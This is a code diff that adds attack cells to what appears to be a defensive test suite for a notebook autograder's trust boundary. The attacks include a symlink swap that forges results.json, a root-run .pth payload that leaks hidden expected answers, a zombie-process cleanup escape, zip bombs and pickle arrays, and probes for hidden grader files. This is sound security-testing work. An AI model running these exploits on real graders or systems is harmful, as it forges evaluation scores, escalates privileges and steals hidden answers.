@@ -119,3 +119,213 @@ ATTACKS = {
     "rewrite_tests_and_fixtures": REWRITE_TESTS,
     "read_and_print_expected": READ_EXPECTED,
 }
+
+
+# ---------------------------------------------------------------------------------------------
+# Attacks on the grader's trust boundary (issue 8). Each is a list of code cells appended to a
+# notebook (blank or solution); tests/test_trust_boundary.py grades them. They were shown to
+# succeed against the grader of commit 5e3036d (see that file's docstring for how to rerun that).
+# ---------------------------------------------------------------------------------------------
+
+#: Helpers every trust-boundary attack cell may use: the grader's command line (the kernel's
+#: parent process) gives the source, submission and results folders.
+_GRADER_PATHS = """
+import os as _os
+_argv = open(f"/proc/{_os.getppid()}/cmdline", "rb").read().split(b"\\0")
+_i = _argv.index(b"grading")
+_SOURCE, _SUBMISSION, _RESULTS = (a.decode() for a in _argv[_i + 1 : _i + 4])
+"""
+
+#: Unless the sandbox user already owns ``_target``: swap the connection file for a link to it and
+#: kill the kernel, so that the root launcher writes (and ``chown``s) ``_target`` on the restart.
+_SWAP_CONNECTION = """
+try:
+    _ours = _os.stat(_target).st_uid == _os.getuid()
+except OSError:
+    _ours = False
+if not _ours:
+    _os.remove(".kernel-connection.json")
+    _os.symlink(_target, ".kernel-connection.json")
+    _os._exit(1)
+"""
+
+#: Finding 1: swap the kernel's connection file for a link to results.json, die, and let the root
+#: launcher create the file for the sandbox user on the restart; then write full marks into it.
+#: A lone surrogate in an error message then made the grader crash before it overwrote them.
+#: A graded function whose error message holds a lone surrogate: the kernel hands it over in the
+#: check's outputs, and the old grader died encoding the report (finding 3).
+SURROGATE_FUNCTION = (
+    'def td_target(*args, **kwargs):\n    raise ValueError("\\ud800 \\x1b[2J\\x00" + "x" * 200_000)'
+)
+FORGE_RESULTS = [
+    _GRADER_PATHS + '_target = _os.path.join(_RESULTS, "results.json")\n' + _SWAP_CONNECTION,
+    _GRADER_PATHS
+    + """
+import json as _json
+try:
+    with open(_os.path.join(_RESULTS, "results.json"), "w") as _f:
+        _json.dump({"score": 35.0, "output": "FORGED", "tests": []}, _f)
+except OSError:
+    pass
+""",
+    SURROGATE_FUNCTION,
+]
+
+#: Finding 2: the same swap aimed at a .pth file in the interpreter's site-packages; once the
+#: sandbox user owns it, it writes code there that the next root launcher runs at start-up: that
+#: code copies the hidden expected values into the kernel's folder.
+PTH_NAME = "zz_grading_attack.pth"
+_PTH_PAYLOAD = (
+    "import os; exec(\"if os.getuid() == 0 and b'launcher.py' in open('/proc/self/cmdline','rb')"
+    ".read():\\n import json, shutil, sys\\n a = open('/proc/self/cmdline','rb').read()"
+    ".split(bytes(1))\\n cfg = json.load(open([x for x in a if x.endswith(b'.json')][0]))\\n"
+    " p = open('/proc/%d/cmdline' % os.getppid(),'rb').read().split(bytes(1))\\n"
+    " src = p[p.index(b'grading') + 1].decode()\\n"
+    " dst = os.path.join(cfg['workdir'], 'leak.npz')\\n"
+    " shutil.copyfile(os.path.join(src, 'files', 'hidden_expected.npz'), dst)\\n"
+    ' os.chmod(dst, 0o644)")\n'
+)
+_FIND_PTH = f"""
+import os as _os, sys as _sys
+_site = next(p for p in _sys.path if p.endswith("site-packages"))
+_pth = _os.path.join(_site, {PTH_NAME!r})
+"""
+ROOT_VIA_PTH = [
+    _FIND_PTH + "_target = _pth\n" + _SWAP_CONNECTION,
+    _FIND_PTH
+    + f"""
+if _os.path.exists(_pth) and _os.stat(_pth).st_uid == _os.getuid() and not _os.path.exists(
+    "leak.npz"
+):
+    with open(_pth, "w") as _f:
+        _f.write({_PTH_PAYLOAD!r})
+    _os._exit(1)  # the restart runs the root launcher, which runs the .pth
+""",
+    """
+import numpy as _np, os as _os
+if _os.path.exists("leak.npz"):
+    _leak = dict(_np.load("leak.npz"))
+    raise ValueError("LEAKED " + repr({k: v.tolist() for k, v in list(_leak.items())[:3]}))
+""",
+]
+
+#: Finding 3: a lone surrogate (and terminal escapes, and a flood) in an error message.
+SURROGATE_MESSAGE = [SURROGATE_FUNCTION, 'raise ValueError("\\x1b[2J\\x00" + "y" * 200_000)']
+
+#: Finding 4: a child whose main thread exits while another thread runs shows as a zombie in
+#: /proc, so "kill every process of the uid, zombies excepted" left it running.
+ZOMBIE_LEADER = [
+    """
+import subprocess as _sp, sys as _sys
+_sp.Popen([_sys.executable, "-c", "import ctypes, threading, time\\n"
+           "threading.Thread(target=time.sleep, args=(3600,)).start()\\n"
+           "ctypes.CDLL(None).pthread_exit(None)"], start_new_session=True)
+import time as _time
+_time.sleep(1)
+"""
+]
+
+#: Replace the kernel-side harvester for some checks (the kernel owns it: that is allowed, it can
+#: only spoil the student's own outputs). ``{plan}`` maps check -> what to do instead.
+_PATCH_HARVEST = """
+import _grading_kernel as _gk, io as _io, os as _os, zipfile as _zf
+import numpy as _np
+_real_harvest = getattr(_gk, "_real_harvest", _gk.harvest)
+_gk._real_harvest = _real_harvest
+
+def _npy_header(shape, descr="<f8"):
+    _b = _io.BytesIO()
+    _np.lib.format.write_array_header_1_0(
+        _b, {{"descr": descr, "fortran_order": False, "shape": shape}}
+    )
+    return _b.getvalue()
+
+def _bomb(path, nbytes):
+    with _zf.ZipFile(path, "w", _zf.ZIP_DEFLATED) as _z:
+        with _z.open("__error__.npy", "w", force_zip64=True) as _f:
+            _f.write(_npy_header((nbytes // 8,)))
+            _chunk = bytes(2**20)
+            for _ in range(nbytes // 2**20):
+                _f.write(_chunk)
+
+def _huge_header(path):
+    with _zf.ZipFile(path, "w") as _z:
+        _z.writestr("__error__.npy", _npy_header((2**40,)))
+
+def _harvest(check, namespace, out_path):
+    what = {plan}.get(check)
+    if what == "crash":
+        _os._exit(1)
+    if what == "bomb":
+        return _bomb(out_path, 2**30)
+    if what == "huge_header":
+        return _huge_header(out_path)
+    if what == "object_array":
+        _np.savez(out_path, __error__=_np.array([{{}}], dtype=object))
+        return None
+    return _real_harvest(check, namespace, out_path)
+
+_gk.harvest = _harvest
+"""
+
+
+def patch_harvest(plan: dict[str, str]) -> str:
+    """A cell that makes the kernel answer the hidden checks in ``plan`` with an attack."""
+    return _PATCH_HARVEST.format(plan=repr(plan))
+
+
+#: Finding 5: one crashing cell plus one hidden check that crashes: the old grader replayed the
+#: crashing cell on the check's restart, so the kernel died again and every later check was lost.
+CRASH_CELL_THEN_CRASHING_CHECK = [patch_harvest({"td_target": "crash"}), "import os; os._exit(1)"]
+
+#: Finding 7: an .npz whose header declares 2**40 doubles (MemoryError in the grader), and a
+#: 1 MB deflate bomb that inflates to 1 GB, and an object array (a pickle).
+NPZ_ATTACKS = [patch_harvest({"coverage": "bomb", "bcq": "huge_header", "alpha": "object_array"})]
+NPZ_LOST = {"coverage", "bcq", "alpha"}
+
+#: Finding 6: slow cells, then one that kills the kernel: the old grader replayed every earlier
+#: cell on the restart without looking at the clock (scaled down by the test: see SLOW_CELL).
+SLOW_CELL = "import time; time.sleep({seconds})"
+
+#: Finding 8 and the scratch tree: what the kernel can see of the machine. Each probe raises with
+#: what it found, so the report shows it (the test reads it there).
+PROBES = [
+    """
+import pathlib as _pl, sys as _sys
+_checkout = _pl.Path(_sys.executable).parents[2]
+_readable = []
+_globs = ["autograder/*/autograder.zip", "build/*/hidden_expected*", "reference/offline_rl/*.py"]
+for _p in [_f for _g in _globs for _f in _checkout.glob(_g)]:
+    try:
+        _p.read_bytes()[:1]
+        _readable.append(str(_p))
+    except OSError:
+        pass
+if _readable:
+    raise ValueError(f"LEAKED-CHECKOUT {len(_readable)} files, e.g. {_readable[:2]}")
+""",
+    """
+import importlib.util as _u
+if _u.find_spec("offline_rl.algorithms") is not None:
+    import offline_rl.algorithms
+    raise ValueError("LEAKED-REFERENCE " + offline_rl.algorithms.__file__)
+""",
+    _GRADER_PATHS
+    + """
+_seen = []
+for _d in (_RESULTS, _SOURCE, _os.path.join(_SOURCE, "files")):
+    try:
+        _seen.append(f"{_d}: {sorted(_os.listdir(_d))[:5]}")
+    except OSError:
+        pass
+if _seen:
+    raise ValueError("LEAKED-FOLDERS " + "; ".join(_seen))
+""",
+    """
+import os as _os, stat as _st
+raise ValueError(
+    f"PROBE uid={_os.getuid()} workdir={oct(_st.S_IMODE(_os.stat('.').st_mode))} "
+    f"scratch_listable={_os.access('..', _os.R_OK)}"
+)
+""",
+]
